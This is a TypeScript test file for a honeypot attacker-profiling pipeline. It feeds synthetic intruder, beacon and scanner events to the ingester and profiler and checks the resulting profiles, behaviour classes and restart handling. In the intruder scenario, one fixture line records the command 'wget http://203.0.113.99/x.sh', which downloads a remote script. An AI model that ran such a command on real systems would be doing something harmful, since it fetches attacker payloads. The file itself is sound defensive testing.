// The profiler behind the real ingester: attacker records (times, services, deckies in order of
// contact, traversal path, counts, commands, fingerprints), behaviour (timing, class, tools, kill
// chain), the bus announcements, and a restart that keeps every aggregate exact.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import ingester from '../../src/pipeline/ingester-worker.ts';
import profiler from '../../src/intel/profiler/profiler-worker.ts';
import { topics } from '../../src/bus/topics.ts';
import { getAttackerByIp, getBehavior } from '../../src/db/attackers/repo.ts';
import { listCredentials } from '../../src/db/credentials/repo.ts';
import { countLogs } from '../../src/db/logs/repo.ts';
import { getState } from '../../src/db/state/repo.ts';
import type { EventInput } from '../../src/pipeline/rfc5424.ts';
import { waitFor } from '../helpers/env.ts';
import { listen, openTestDb, runWorkers, sandbox, writeEvents } from '../pipeline/helpers.ts';

const T0 = Date.UTC(2024, 4, 1, 12, 0, 0);
const at = (s: number) => new Date(T0 + s * 1000).toISOString();
const PARAMIKO_HASSH = 'b5752e36ba6c5979a575e43178908adf';

function e(ip: string, s: number, over: Partial<EventInput> & { event: string }): EventInput {
  return { ts: at(s), decky: 'decky-a', service: 'ssh', src_ip: ip, src_port: 40_000 + Math.round(s * 10) % 20_000, dst_ip: '192.0.2.10', dst_port: 22, ...over };
}

const INTRUDER = '198.51.100.20';
const BEACON = '198.51.100.30';
const SCANNER = '198.51.100.40';

function scenario(): EventInput[] {
  const out: EventInput[] = [];
  // An intruder: hello and guesses on decky-a, a web probe on decky-b, a shell on decky-c.
  out.push(e(INTRUDER, 0, { event: 'connect' }));
  out.push(e(INTRUDER, 1, { event: 'client_hello', fields: { client_version: 'SSH-2.0-paramiko_2.4.1', hassh: PARAMIKO_HASSH, hassh_algorithms: 'curve25519-sha256;aes128-ctr;hmac-sha2-256;none' } }));
  for (let i = 0; i < 6; i++) out.push(e(INTRUDER, 2 + i, { event: 'auth_attempt', fields: { username: 'root', success: i === 5 }, secret: `guess-${i}` }));
  out.push(e(INTRUDER, 10, { event: 'request', decky: 'decky-b', service: 'http', dst_port: 80, fields: { method: 'GET', path: '/?id=1', user_agent: 'sqlmap/1.7.2#stable (https://sqlmap.org)' } }));
  out.push(e(INTRUDER, 20, { event: 'connect', decky: 'decky-c' }));
  for (const [i, c] of ['uname -a', 'id', 'wget http://203.0.113.99/x.sh'].entries()) out.push(e(INTRUDER, 21 + i * 2, { event: 'command', decky: 'decky-c', fields: { command: c, cwd: '/root', user: 'root' } }));
  // A beacon: one request a minute, ±12 s.
  for (let i = 0; i < 10; i++) out.push(e(BEACON, i * 60 + (i % 2 ? 12 : 0), { event: 'request', service: 'http', decky: 'decky-b', fields: { method: 'POST', path: '/submit.php' } }));
  // A scanner: five deckies, three services, fast.
  let s = 0;
  for (const d of ['decky-a', 'decky-b', 'decky-c', 'decky-d', 'decky-e']) for (const svc of ['ssh', 'http', 'smb']) out.push(e(SCANNER, (s++) * 0.2, { event: 'connect', decky: d, service: svc }));
  return out;
}

test('profiles, behaviour and announcements from the stored events', { timeout: 30_000 }, async () => {
  const box = sandbox();
  const bus = await listen([topics.attackerObserved, topics.attackerScored]);
  const events = writeEvents(box.decoyLog, scenario());
  const run = await runWorkers([
    { def: ingester, config: { poll: 20 } },
    { def: profiler, config: { interval: 1 } },
  ]);
  const db = await openTestDb(box);
  try {
    await waitFor(async () => (await getState<{ last_log_id: number }>(db, 'profiler:cursor'))?.last_log_id === events.length, 15_000, 'the profiler to reach the last event');

    const a = (await getAttackerByIp(db, INTRUDER))!;
    assert.equal(a.first_seen, at(0));
    assert.equal(a.last_seen, at(25));
    assert.equal(a.event_count, 13);
    assert.deepEqual(a.services, ['http', 'ssh']);
    assert.deepEqual(a.deckies, ['decky-a', 'decky-b', 'decky-c'], 'in order of first contact');
    assert.equal(a.traversal_path, 'decky-a → decky-b → decky-c');
    assert.equal(a.is_traversal, true);
    assert.deepEqual(a.commands.map((c) => c.command), ['uname -a', 'id', 'wget http://203.0.113.99/x.sh']);
    assert.equal(a.commands[0].decky, 'decky-c');
    assert.equal(a.credential_count, 6);
    assert.equal(a.bounty_count, 3, 'hassh, client version, user agent');
    assert.deepEqual((a.fingerprints as { type: string }[]).map((f) => f.type).sort(), ['client_version', 'hassh', 'http_useragent']);
    const creds = await listCredentials(db, { attacker_ip: INTRUDER });
    assert.ok(creds.data.every((c) => c.attacker_uuid === a.uuid), 'credentials linked to the attacker');

    const b = (await getBehavior(db, a.uuid))!;
    assert.equal(b.behavior_class, 'interactive');
    assert.deepEqual(b.tool_guesses, ['paramiko', 'sqlmap']);
    assert.deepEqual(b.ssh_client_banners, ['SSH-2.0-paramiko_2.4.1']);
    assert.deepEqual(b.kex_order_raw, ['curve25519-sha256']);
    const phases = b.phase_sequence as { phase: string; count: number; first_seen: string }[];
    assert.deepEqual(phases.map((p) => [p.phase, p.count]), [['reconnaissance', 4], ['credential_access', 6], ['execution', 3]]);
    const timing = b.timing_stats as Record<string, number>;
    assert.equal(timing.event_count, 13);
    assert.equal(timing.iat_count, 12);
    assert.equal(timing.duration_s, 25);

    const beacon = (await getAttackerByIp(db, BEACON))!;
    const bb = (await getBehavior(db, beacon.uuid))!;
    assert.equal(bb.behavior_class, 'beaconing');
    assert.ok(Math.abs(bb.beacon_interval_s! - 60) < 1.5, `interval ${bb.beacon_interval_s}`);
    assert.ok(bb.beacon_jitter_pct! > 15 && bb.beacon_jitter_pct! < 25, `jitter ${bb.beacon_jitter_pct}`);
    assert.deepEqual(bb.tool_guesses, ['cobalt_strike']);
    assert.equal(beacon.is_traversal, false);
    assert.equal(beacon.traversal_path, null);

    const scanner = (await getAttackerByIp(db, SCANNER))!;
    assert.equal((await getBehavior(db, scanner.uuid))!.behavior_class, 'scanning');
    assert.equal(scanner.decky_count, 5);
    assert.equal(scanner.service_count, 3);

    await waitFor(() => bus.of(topics.attackerObserved).length === 3, 5000, 'one attacker.observed per address');
    assert.deepEqual(bus.of(topics.attackerObserved).map((x) => x.payload.attacker_ip).sort(), [INTRUDER, BEACON, SCANNER].sort());
    const observed = bus.of(topics.attackerObserved).find((x) => x.payload.attacker_ip === INTRUDER)!.payload;
    assert.equal(observed.attacker_uuid, a.uuid);
    assert.equal(observed.first_seen, at(0));
    const scored = bus.of(topics.attackerScored).filter((x) => x.payload.attacker_ip === INTRUDER).at(-1)!.payload;
    assert.equal(scored.event_count, 13);
    assert.equal(scored.credential_count, 6);
    assert.equal(scored.is_traversal, true);
    assert.equal(scored.behavior_class, 'interactive');
  } finally {
    await run.stop();
    await bus.close();
    await db.close();
    await box.cleanup();
  }
});

test('a restart resumes from the cursor and keeps every aggregate exact', { timeout: 40_000 }, async () => {
  const box = sandbox();
  const bus = await listen([topics.attackerObserved]);
  const ip = '203.0.113.77';
  const part = (from: number, n: number) => Array.from({ length: n }, (_, i) => e(ip, (from + i) * 3, { event: 'command', decky: `decky-${(from + i) % 2 ? 'x' : 'y'}`, fields: { command: `cmd-${from + i}` } }));
  let ingest = await runWorkers([{ def: ingester, config: { poll: 20 } }]);
  let prof = await runWorkers([{ def: profiler, config: { interval: 1, batch: 7 } }]);
  const db = await openTestDb(box);
  try {
    writeEvents(box.decoyLog, part(0, 40));
    await waitFor(async () => (await getAttackerByIp(db, ip))?.event_count === 40, 15_000, 'the first part profiled');
    await prof.stop();
    // Events arrive while the profiler is down.
    writeEvents(box.decoyLog, part(40, 35));
    await waitFor(async () => (await countLogs(db)) === 75, 10_000, 'the second part stored');
    await ingest.stop();
    ingest = await runWorkers([{ def: ingester, config: { poll: 20 } }]);
    prof = await runWorkers([{ def: profiler, config: { interval: 1, batch: 7 } }]);
    await waitFor(async () => (await getAttackerByIp(db, ip))?.event_count === 75, 15_000, 'the second part profiled');
    await new Promise((r) => setTimeout(r, 300));
    const a = (await getAttackerByIp(db, ip))!;
    assert.equal(a.event_count, 75, 'nothing counted twice');
    assert.equal(a.commands.length, 75);
    assert.deepEqual(a.commands.map((c) => c.command), Array.from({ length: 75 }, (_, i) => `cmd-${i}`));
    assert.equal(a.first_seen, at(0));
    assert.equal(a.last_seen, at(74 * 3));
    const t = (await getBehavior(db, a.uuid))!.timing_stats as Record<string, number>;
    assert.equal(t.event_count, 75);
    assert.equal(t.iat_count, 74);
    assert.equal(t.mean_iat_s, 3);
    assert.equal(t.stdev_iat_s, 0);
    assert.equal(a.traversal_path!.split(' → ').length, 75, 'every hop between the two deckies');
    assert.equal(bus.of(topics.attackerObserved).length, 1, 'observed once, not again after the restart');
  } finally {
    await prof.stop();
    await ingest.stop();
    await bus.close();
    await db.close();
    await box.cleanup();
  }
});
